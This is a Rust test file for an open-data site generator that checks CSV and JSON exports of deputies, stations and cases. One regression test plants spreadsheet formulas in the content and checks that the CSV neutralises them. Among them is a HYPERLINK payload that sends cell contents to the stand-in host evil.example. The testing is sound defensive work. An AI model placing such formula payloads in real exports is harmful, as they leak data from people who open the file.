//! Open data parses back (with the `csv` crate and serde_json) to the rows of the content.

mod common;

use common::Workspace;
use std::collections::BTreeMap;

type Row = BTreeMap<String, String>;

fn csv_rows(workspace: &Workspace, path: &str) -> Vec<Row> {
    let bytes = std::fs::read(workspace.site().join(path)).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "{path} starts with a byte-order mark for Excel");
    assert!(bytes.windows(2).any(|w| w == b"\r\n"), "{path} has CRLF line ends");
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    reader
        .records()
        .map(|r| headers.iter().zip(r.unwrap().iter()).map(|(h, v)| (h.to_string(), v.to_string())).collect())
        .collect()
}

/// JSON rows in the CSV's terms: arrays joined by `;`, numbers as text, null as empty.
fn json_rows(workspace: &Workspace, path: &str) -> Vec<Row> {
    let value: serde_json::Value = serde_json::from_str(&workspace.page(path)).unwrap();
    value
        .as_array()
        .unwrap()
        .iter()
        .map(|row| {
            row.as_object()
                .unwrap()
                .iter()
                .map(|(k, v)| {
                    let text = match v {
                        serde_json::Value::String(s) => s.clone(),
                        serde_json::Value::Null => String::new(),
                        serde_json::Value::Array(items) => {
                            items.iter().map(|i| i.as_str().unwrap().to_string()).collect::<Vec<_>>().join(";")
                        }
                        other => other.to_string(),
                    };
                    (k.clone(), text)
                })
                .collect()
        })
        .collect()
}

#[test]
fn csv_and_json_hold_the_rows_of_the_content() {
    let workspace = Workspace::new(None);
    assert_eq!(workspace.build().code, Some(0));
    let loaded = liaison::load::load(&workspace.content()).unwrap();
    let county = loaded.site.counties.iter().find(|c| c.id == "demo").unwrap();
    let tables = [
        "stations",
        "deputies",
        "cases",
        "case_steps",
        "stats",
        "consultations",
        "rules",
        "rosters",
        "sessions",
        "proposals",
        "voter_reports",
        "projects",
        "project_steps",
        "posts",
    ];
    for name in tables {
        assert_eq!(
            csv_rows(&workspace, &format!("demo/data/{name}.csv")),
            json_rows(&workspace, &format!("demo/data/{name}.json")),
            "{name}: CSV and JSON hold the same rows"
        );
    }
    let deputies = csv_rows(&workspace, "demo/data/deputies.csv");
    let all: Vec<_> = county.stations.iter().flat_map(|s| s.deputies.iter().map(move |d| (s, d))).collect();
    assert_eq!(deputies.len(), all.len());
    for (row, (station, deputy)) in deputies.iter().zip(&all) {
        assert_eq!(row["id"], deputy.id);
        assert_eq!(row["name"], deputy.name);
        assert_eq!(row["station"], station.id);
        assert_eq!(row["position"], deputy.position.clone().unwrap_or_default());
        assert_eq!(row["phone"], deputy.phone.clone().unwrap_or_default());
        // Public fields only.
        assert!(!row.contains_key("bio") && !row.contains_key("photo"));
    }
    let cases = csv_rows(&workspace, "demo/data/cases.csv");
    let gas = cases.iter().find(|r| r["id"] == "gas").unwrap();
    assert_eq!(gas["title"], "留义新苑 280 多户居民用上天然气");
    assert_eq!(
        (gas["status"].as_str(), gas["resolved"].as_str(), gas["households"].as_str()),
        ("resolved", "2018-09-30", "280")
    );
    assert_eq!(gas["deputies"], "songjinfeng");
    let stats = csv_rows(&workspace, "demo/data/stats.csv");
    let north = &county.stations.iter().find(|s| s.id == "north").unwrap().stats;
    assert_eq!(stats.len(), north.len());
    for (row, ledger) in stats.iter().zip(north) {
        assert_eq!(row["issues_collected"], ledger.issues_collected.unwrap().to_string());
        assert_eq!(row["issues_resolved"], ledger.issues_resolved.unwrap().to_string());
    }
    let stations = csv_rows(&workspace, "demo/data/stations.csv");
    let north_row = stations.iter().find(|r| r["id"] == "north").unwrap();
    assert_eq!(north_row["serves"], "北街社区;留义新苑");
    assert_eq!((north_row["lat"].as_str(), north_row["lon"].as_str()), ("37.5", "111.1"));
    let page = workspace.page("demo/data/index.html");
    for file in ["stations.csv", "deputies.csv", "cases.csv", "stats.csv", "deputies.json"] {
        assert!(page.contains(file), "the data page explains {file}");
    }
}

// See: issue 13 (a `position: "=HYPERLINK(…)"` written verbatim to `deputies.csv`).
#[test]
fn cells_a_spreadsheet_would_run_are_neutralised_and_json_keeps_the_values() {
    let workspace = Workspace::new(None);
    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")";
    let deputies = "demo/stations/north/deputies.yaml";
    let text = std::fs::read_to_string(workspace.content().join(deputies)).unwrap();
    let text = text
        .replacen("position: 留义村党总支书记", "position: '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")'", 1)
        .replacen("phone: \"0358-0000000\"", "phone: \"+86 358 0000000\"", 1)
        .replacen("position: 科普站站长", "position: \"@SUM(1+1)\"", 1)
        .replacen("position: 居民组长", "position: \"-2+3\"", 1);
    workspace.write(deputies, &text);
    let station = "demo/stations/north/station.yaml";
    let text = std::fs::read_to_string(workspace.content().join(station)).unwrap();
    workspace.write(station, &text.replacen("address: 北街 1 号", "address: \"-1+1 北街\"", 1));
    let run = workspace.build();
    assert_eq!(run.code, Some(0), "{}", run.stderr);

    let rows = csv_rows(&workspace, "demo/data/deputies.csv");
    let cell = |name: &str, column: &str| rows.iter().find(|r| r["name"] == name).unwrap()[column].clone();
    assert_eq!(cell("宋金峰", "position"), format!("'{formula}"));
    assert_eq!(cell("宋金峰", "phone"), "'+86 358 0000000");
    assert_eq!(cell("王海荣", "position"), "'@SUM(1+1)");
    assert_eq!(cell("单丽华", "position"), "'-2+3");
    let stations = csv_rows(&workspace, "demo/data/stations.csv");
    let north = stations.iter().find(|r| r["id"] == "north").unwrap();
    assert_eq!(north["address"], "'-1+1 北街");
    assert_eq!((north["lat"].as_str(), north["lon"].as_str()), ("37.5", "111.1"), "numbers stay numbers");
    // Each neutralised cell is quoted in the file, so the quote mark stays inside the cell.
    let raw = workspace.page("demo/data/deputies.csv");
    assert!(raw.contains(&format!("\"'{}\"", formula.replace('"', "\"\""))), "{raw}");
    assert!(raw.contains("\"'+86 358 0000000\""), "{raw}");
    // The JSON is data, not a spreadsheet: it keeps the values as written.
    let json = json_rows(&workspace, "demo/data/deputies.json");
    let song = json.iter().find(|r| r["name"] == "宋金峰").unwrap();
    assert_eq!((song["position"].as_str(), song["phone"].as_str()), (formula, "+86 358 0000000"));
}
